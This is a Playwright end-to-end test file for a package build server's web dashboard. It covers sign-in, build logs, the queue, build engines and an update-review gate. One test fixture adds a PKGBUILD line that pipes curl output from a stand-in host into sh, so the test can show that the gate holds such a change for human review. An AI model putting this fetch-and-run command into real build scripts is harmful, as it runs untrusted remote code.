/**
 * The dashboard in a real browser: Debian's Chromium (/usr/bin/chromium) driven by playwright-core,
 * against a real serene HTTP server (the repo-http test harness: Koa, SQLite store, orchestrator,
 * the update gate, a runner whose builds wait until the test lets them go and log what the test
 * writes). The runner reports three engines whose status the test sets (the Docker Engine pool's
 * status, which host/src/engines.test.ts reads from real engines): the first build in the runner is
 * on `big`, the others on `small`, and `pi` is down. Screenshots of every page go to
 * test-artifacts/dashboard/ (git-ignored).
 */
import { existsSync } from 'node:fs';
import * as fs from 'node:fs/promises';
import * as os from 'node:os';
import * as path from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import type { EngineStatus } from '@serene/core';
import { type BrowserContext, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  fakeSigner,
  type Harness,
  SECRET,
  startHarness,
} from '../../plugin-repo-http/src/testing/harness.js';
// @ts-expect-error: a plain ES module script without types
import { bundleDashboard } from '../scripts/bundle.mjs';
import { createDashboard } from './dashboard.js';

const CHROMIUM = '/usr/bin/chromium';
const ARTIFACTS = path.resolve(import.meta.dirname, '..', '..', '..', 'test-artifacts', 'dashboard');
const haveChromium = existsSync(CHROMIUM);
// a machine without Chromium skips, except under CI, where that is a failed set-up
const describeBrowser = haveChromium || process.env.CI === 'true' ? describe : describe.skip;

let h: Harness;
let context: BrowserContext;
let page: Page;
let root: string;
const foreign: string[] = [];

async function until(check: () => Promise<boolean> | boolean, ms = 15_000): Promise<void> {
  const end = Date.now() + ms;
  while (!(await check())) {
    if (Date.now() > end) throw new Error('condition not reached in time');
    await sleep(25);
  }
}

const api = (pathname: string, body?: unknown) =>
  h.ask(pathname, body === undefined ? {} : { method: 'POST', body });

async function shot(name: string): Promise<void> {
  await page.screenshot({ path: path.join(ARTIFACTS, `${name}.png`), fullPage: true });
}

const ENGINES_SINCE = new Date(Date.now() - 5 * 60_000);

/** The engines the runner reports: the first build on `big`, the others on `small`; `pi` is down. */
function engines(running: readonly string[]): EngineStatus[] {
  const engine = (name: string, builds: readonly string[], more: Partial<EngineStatus>): EngineStatus => ({
    name,
    arch: 'x86_64',
    state: 'up',
    since: ENGINES_SINCE,
    capacity: 1,
    running: builds.length,
    builds,
    labels: [],
    ...more,
  });
  return [
    engine('big', running.slice(0, 1), { labels: ['big'] }),
    engine('small', running.slice(1), { capacity: 4 }),
    engine('pi', [], { arch: undefined, state: 'down', reason: 'it stopped answering pings' }),
  ];
}

const PLAIN_BUILD = 'build() {\n  make\n}';
const CHANGED_BUILD = 'build() {\n  make\n  curl -s https://example.invalid/p | sh\n}';

/** The version of a package in the repository, if published. */
async function published(name: string): Promise<string | undefined> {
  return (await h.publisher.list()).find((entry) => entry.name === name)?.version;
}

/** The builds of the server that have not ended. */
async function inFlight(): Promise<string[]> {
  return ((await api('/queue')).json as { base: string }[]).map((entry) => entry.base).sort();
}

describeBrowser(
  `the dashboard in Chromium (${haveChromium ? CHROMIUM : `no ${CHROMIUM} on this machine`})`,
  () => {
    beforeAll(async () => {
      root = await fs.mkdtemp(path.join(os.tmpdir(), 'serene-dashboard-'));
      await bundleDashboard({ outDir: path.join(root, 'public') });
      const dashboard = createDashboard({ assetsDir: path.join(root, 'public') });
      h = await startHarness({
        packages: [
          ...['alpha', 'beta', 'broken', 'gamma', 'zeta', 'omega'].map((base) => ({ base, pkgver: '1.0' })),
          { base: 'delta', pkgver: '1.0', functions: PLAIN_BUILD },
        ],
        engines,
        behaviour: (base) => (base === 'broken' ? 'failure' : 'success'),
        http: { signer: fakeSigner(), plugins: [dashboard] },
        // what a container's cgroup would report, so that the chart has memory to show
        stats: (base) => ({
          memoryPeak: (base.length * 40 + Math.round(Math.random() * 60)) * 1024 * 1024,
          cpuUser: 1_500_000,
          cpuSystem: 300_000,
          ioRead: 10 * 1024 * 1024,
          ioWritten: 4 * 1024 * 1024,
        }),
      });
      for (const name of ['alpha', 'beta', 'broken', 'gamma', 'zeta']) {
        const added = await api('/package/add', {
          replace: false,
          build: false,
          source: { type: 'aur', name },
        });
        expect(added.status).toBe(200);
      }
      // a history: gamma passes twice, broken fails (it sorts after alpha and beta by name)
      for (const names of [['gamma'], ['gamma'], ['broken']]) {
        await api('/build', { packages: names, clean: false, resolve: false, force: true });
        await until(
          async () =>
            (await h.service.builds(names[0]!)).some((b) => b.ended !== null) &&
            (await inFlight()).length === 0,
        );
        await sleep(30);
      }
      await until(async () => (await h.service.builds('gamma')).filter((b) => b.ended !== null).length === 2);

      await fs.mkdir(ARTIFACTS, { recursive: true });
      context = await chromium.launchPersistentContext(path.join(root, 'profile'), {
        executablePath: CHROMIUM,
        headless: true,
        args: [
          '--headless',
          '--no-sandbox',
          '--disable-gpu',
          '--disable-quic',
          '--no-first-run',
          '--disable-background-networking',
          '--disable-component-update',
          '--disable-sync',
        ],
        viewport: { width: 1280, height: 800 },
      });
      page = context.pages()[0] ?? (await context.newPage());
      // every request stays on the server's own origin (no CDN, works offline)
      page.on('request', (request) => {
        if (!request.url().startsWith(h.url) && !request.url().startsWith('data:'))
          foreign.push(request.url());
      });
    }, 240_000);

    afterAll(async () => {
      await context?.close();
      await h?.close();
      if (root) await fs.rm(root, { recursive: true, force: true });
    });

    it('signs in with the secret, which stays in the browser', async () => {
      await page.goto(`${h.url}/dashboard/`);
      await page.getByRole('heading', { name: 'Sign in to serene' }).waitFor();
      await shot('1-sign-in');
      await page.getByLabel('API secret').fill('not the secret');
      await page.getByRole('button', { name: 'Sign in' }).click();
      await page.getByRole('alert').filter({ hasText: 'authorized_secrets' }).waitFor();
      await page.getByLabel('API secret').fill(SECRET);
      await page.getByRole('button', { name: 'Sign in' }).click();
      await page.getByRole('heading', { name: 'Packages' }).waitFor();
      await page.getByText('Sign out (tester@laptop)').waitFor();
      expect(await page.evaluate(() => sessionStorage.getItem('serene.secret'))).toBe(SECRET);
      expect(await page.evaluate(() => localStorage.getItem('serene.secret'))).toBeNull();
    });

    it('lists the failing package first, and filters and searches', async () => {
      const rows = page.locator('table.list tbody tr');
      await until(async () => (await rows.count()) === 5);
      expect(await rows.first().locator('td.name a').textContent()).toBe('broken');
      expect(await rows.first().locator('.badge').textContent()).toBe('failing');
      // the server runs the update gate (GET /review answers, holding nothing here): its Review tab is shown
      expect(await page.getByRole('link', { name: /^Review/ }).count()).toBe(1);
      await shot('2-packages');
      await page.getByRole('button', { name: /^Failing/ }).click();
      await until(async () => (await rows.count()) === 1);
      await page.getByRole('button', { name: /^All/ }).click();
      await page.keyboard.press('/');
      await page.keyboard.type('gam');
      await until(async () => (await rows.count()) === 1);
      expect(await rows.first().locator('td.name a').textContent()).toBe('gamma');
      await page.getByRole('searchbox').fill('');
      await until(async () => (await rows.count()) === 5);
    });

    it('starts a build and shows its log as it arrives', async () => {
      h.hold('alpha');
      await page.getByRole('button', { name: 'Build alpha' }).click();
      await until(async () => (await inFlight()).includes('alpha'));
      // the row follows the live stream: alpha is working
      await page
        .locator('tr', { has: page.getByRole('link', { name: 'alpha', exact: true }) })
        .locator('.badge', { hasText: 'working' })
        .waitFor();
      await page.getByRole('link', { name: 'alpha', exact: true }).click();
      await page.getByRole('heading', { name: /^alpha/ }).waitFor();
      await page.getByRole('link', { name: 'follow the log' }).click();
      await page.getByRole('heading', { name: 'Build of alpha' }).waitFor();
      const log = page.getByTestId('log');
      await until(
        async () =>
          ((await log.textContent()) ?? '').length >= 0 &&
          (await page.getByText('live', { exact: true }).count()) > 0,
      );
      h.log('alpha', 'first line from the runner\n');
      await until(async () => ((await log.textContent()) ?? '').includes('first line from the runner'));
      h.log('alpha', 'second line\n');
      await until(async () => ((await log.textContent()) ?? '').includes('second line'));
      await shot('3-build-live');
    });

    it('cancels another build from the queue and sees the queue drain', async () => {
      h.hold('beta');
      await api('/build', { packages: ['beta'], clean: false, resolve: false, force: true });
      await page.getByRole('link', { name: /^Queue/ }).click();
      await page.getByRole('heading', { name: 'Queue' }).waitFor();
      const summary = page.getByTestId('queue-summary');
      await until(async () => (await summary.textContent()) === '2 running, 0 waiting');
      // several engines: each running build shows its engine and architecture (alpha came first)
      const row = (base: string) =>
        page.locator('table.queue tr', { has: page.getByRole('link', { name: base, exact: true }) });
      await until(
        async () => (await row('beta').locator('[data-column="engine"]').textContent()) === 'small',
      );
      expect(await row('alpha').locator('[data-column="engine"]').textContent()).toBe('big');
      expect(await row('alpha').locator('[data-column="arch"]').textContent()).toBe('x86_64');
      expect(await page.locator('table.queue').getByRole('columnheader', { name: 'Engine' }).count()).toBe(1);
      await shot('4-queue');
      await page.getByRole('button', { name: 'Cancel the build of beta' }).click();
      // the runner stops when told to (the held build goes on once let go, as a container would end)
      h.release('beta');
      await until(async () => (await summary.textContent()) === '1 running, 0 waiting');
      const betaBuild = (await h.service.builds('beta'))[0]!;
      expect(betaBuild.state).toEqual({ state: 'cancelled', info: 'build was cancelled by tester@laptop' });
      h.release('alpha');
      await until(async () => (await summary.textContent()) === 'Nothing is building.');
      // the recent builds show both outcomes
      await page.locator('table').last().getByText('build was cancelled by tester@laptop').waitFor();
      expect((await h.service.builds('alpha'))[0]?.state).toEqual({ state: 'success' });
      // ... each with the engine it ran on and its architecture (several engines)
      const recent = (base: string) =>
        page
          .locator('table')
          .last()
          .locator('tr', { has: page.getByRole('link', { name: base, exact: true }) });
      await until(
        async () => (await recent('alpha').first().locator('[data-column="engine"]').textContent()) === 'big',
      );
      expect(await recent('beta').first().locator('[data-column="engine"]').textContent()).toBe('small');
      expect(await recent('beta').first().locator('[data-column="arch"]').textContent()).toBe('x86_64');
      await shot('5-queue-drained');
    });

    it('shows a package with its history chart, settings and PKGBUILD, and changes a setting', async () => {
      await page.goto(`${h.url}/dashboard/#/package/gamma`);
      await page.getByRole('heading', { name: /^gamma/ }).waitFor();
      await page.locator('figure.chart svg rect').first().waitFor();
      expect(await page.locator('figure.chart svg rect.bar.s-passing').count()).toBe(2);
      // the history names the engine of each build (GET /builds?package=), here the first engine
      expect(await page.locator('[data-column="engine"]').allTextContents()).toEqual(['big', 'big']);
      expect(await page.locator('[data-column="arch"]').allTextContents()).toEqual(['x86_64', 'x86_64']);
      await page.getByText('PKGBUILD', { exact: true }).click();
      await page.locator('pre.code').getByText('pkgver=1.0').waitFor();
      await page.getByRole('button', { name: 'Disable' }).click();
      await page.getByRole('button', { name: 'Enable' }).waitFor();
      expect((await h.service.get('gamma')).record.enabled).toBe(false);
      await shot('6-package');
      await page.getByRole('button', { name: 'Enable' }).click();
      await page.getByRole('button', { name: 'Disable' }).waitFor();
    });

    it('shows the finished build with its stored log', async () => {
      const alpha = (await h.service.builds('alpha'))[0]!;
      await page.goto(
        `${h.url}/dashboard/#/package/alpha/build/${encodeURIComponent(alpha.started.toISOString())}`,
      );
      await page.getByTestId('build-state').getByText('success').waitFor();
      await until(async () => ((await page.getByTestId('log').textContent()) ?? '').includes('second line'));
      await shot('7-build-done');
    });

    it('shows the server: engines with state and load, and the pacman.conf lines', async () => {
      h.hold('zeta');
      await api('/build', { packages: ['zeta'], clean: false, resolve: false, force: true });
      await until(async () => (await inFlight()).includes('zeta'));
      await page.getByRole('link', { name: 'Server' }).click();
      await page.getByRole('heading', { name: 'Server' }).waitFor();
      await page.getByText(`Server = ${h.url}/x86_64`).waitFor();
      await page.getByText('sudo pacman-key --lsign-key ABCDEF').waitFor();
      const engine = (name: string) => page.locator(`table.engines tr[data-engine="${name}"]`);
      // zeta runs on big: its load is full, the build is named
      await until(async () => ((await engine('big').textContent()) ?? '').includes('zeta'));
      expect(await engine('big').locator('.badge').textContent()).toBe('up');
      expect(await engine('big').locator('.load').textContent()).toBe('1/1');
      expect(await engine('big').getByRole('meter').getAttribute('value')).toBe('1');
      expect(await engine('big').textContent()).toMatch(/for \d+m \d+s/);
      expect(await engine('small').locator('.load').textContent()).toBe('0/4');
      expect(await engine('pi').locator('.badge').textContent()).toBe('down');
      expect(await engine('pi').textContent()).toContain('it stopped answering pings');
      await shot('8-server');
      h.release('zeta');
      // the table follows: big is idle again
      await until(async () => (await engine('big').locator('.load').textContent()) === '0/1');
      expect(await engine('big').textContent()).not.toContain('zeta');
      await until(async () => (await inFlight()).length === 0);
    });

    it('works on a phone and in the dark, by keyboard, from its own origin only', async () => {
      await page.setViewportSize({ width: 390, height: 844 });
      await page.goto(`${h.url}/dashboard/#/`);
      await page.getByRole('heading', { name: 'Packages' }).waitFor();
      // no sideways scrolling on a phone
      expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
      await shot('9-phone');
      await page.getByRole('button', { name: /^Theme/ }).click();
      await page.getByRole('button', { name: /^Theme/ }).click();
      // the theme is applied by an effect, after the button has shown its new label
      await until(async () => (await page.evaluate(() => document.documentElement.dataset.theme)) === 'dark');
      await shot('10-phone-dark');
      await page.setViewportSize({ width: 1280, height: 800 });
      await shot('11-dark');
      // on a fresh load, Tab reaches the skip link first
      await page.reload();
      await page.getByRole('heading', { name: 'Packages' }).waitFor();
      await page.keyboard.press('Tab');
      expect(await page.evaluate(() => document.activeElement?.textContent)).toBe('Skip to content');
      expect(foreign).toEqual([]);
    });

    it('adds a package from the AUR and removes one', async () => {
      await page.getByRole('link', { name: 'Add', exact: true }).click();
      await page.getByRole('heading', { name: 'Add a package' }).waitFor();
      await page.getByLabel('AUR package name').fill('omega');
      await page.getByLabel('Build it now').uncheck();
      await page.getByRole('button', { name: 'Add', exact: true }).click();
      await page.getByRole('heading', { name: /^omega/ }).waitFor();
      expect((await h.service.get('omega')).record.base).toBe('omega');
      // removing asks first
      page.once('dialog', (dialog) => void dialog.accept());
      await page.getByRole('button', { name: 'Remove' }).click();
      await page.getByRole('heading', { name: 'Packages' }).waitFor();
      await until(async () => (await h.ask('/package/omega')).status === 404);
      // the list follows the server's change event (it may be drawn once more from the list as it was)
      await until(
        async () => (await page.locator('table.list td.name a', { hasText: 'omega' }).count()) === 0,
      );
    });

    it('shows an update the gate holds in the Review tab, and approving it there releases it', async () => {
      // delta is built at 1.0, then reviewed by diff (its own setting); upstream changes its build()
      const added = await api('/package/add', { replace: false, source: { type: 'aur', name: 'delta' } });
      expect(added.status, added.text).toBe(200);
      await until(async () => (await inFlight()).length === 0 && (await published('delta')) === '1.0-1');
      expect((await api('/package/delta/set', { key: 'review', value: 'diff' })).status).toBe(200);
      await h.aur.bump('delta', { pkgver: '1.1', functions: CHANGED_BUILD });
      await api('/build', { packages: ['delta'], clean: false, resolve: false, force: false });
      await until(async () => ((await api('/review')).json as { base: string }[]).length === 1);
      expect(await published('delta')).toBe('1.0-1');

      await page.goto(`${h.url}/dashboard/#/review`);
      await page.getByRole('heading', { name: 'Held updates' }).waitFor();
      // the tab counts it
      await page.getByRole('link', { name: /^Review\s*1/ }).waitFor();
      const row = page.locator('table tr', { has: page.getByRole('link', { name: 'delta', exact: true }) });
      await row.waitFor();
      expect(await row.textContent()).toContain('1.1-1');
      await shot('13-review');
      await page.getByRole('link', { name: 'delta', exact: true }).click();
      await page.getByRole('heading', { name: /^delta/ }).waitFor();
      await page.locator('pre.code').getByText('+  curl -s https://example.invalid/p | sh').waitFor();
      await shot('14-review-held');
      await page.getByRole('button', { name: 'Approve and build' }).click();
      await page.getByText('Nothing is held.').waitFor();
      // released: the gate holds nothing, and exactly the approved revision is built and published
      expect((await api('/review')).json).toEqual([]);
      await until(async () => (await published('delta')) === '1.1-1');
      // the database is written before the build is recorded as a success (its `publish` phase)
      await until(async () => (await h.service.builds('delta'))[0]?.state.state !== 'running');
      expect((await h.service.builds('delta'))[0]?.state).toEqual({ state: 'success' });
      await shot('15-review-approved');
    });

    it('on a server of several architectures, offers one pacman.conf line with $arch', async () => {
      const multi = await startHarness({
        arches: ['aarch64'],
        http: { allowReads: true, plugins: [createDashboard({ assetsDir: path.join(root, 'public') })] },
      });
      try {
        await page.goto(`${multi.url}/dashboard/#/server`);
        await page.getByRole('heading', { name: 'Server' }).waitFor();
        await page.getByText(`Server = ${multi.url}/$arch`).waitFor();
        expect(await page.getByText('x86_64, aarch64').count()).toBe(1);
        await shot('16-server-architectures');
      } finally {
        await multi.close();
        await page.goto(`${h.url}/dashboard/`);
      }
    });

    it('signs out, and the page asks for the secret again', async () => {
      await page.getByRole('button', { name: /^Sign out/ }).click();
      await page.getByRole('heading', { name: 'Sign in to serene' }).waitFor();
      expect(await page.evaluate(() => sessionStorage.getItem('serene.secret'))).toBeNull();
    });
  },
);
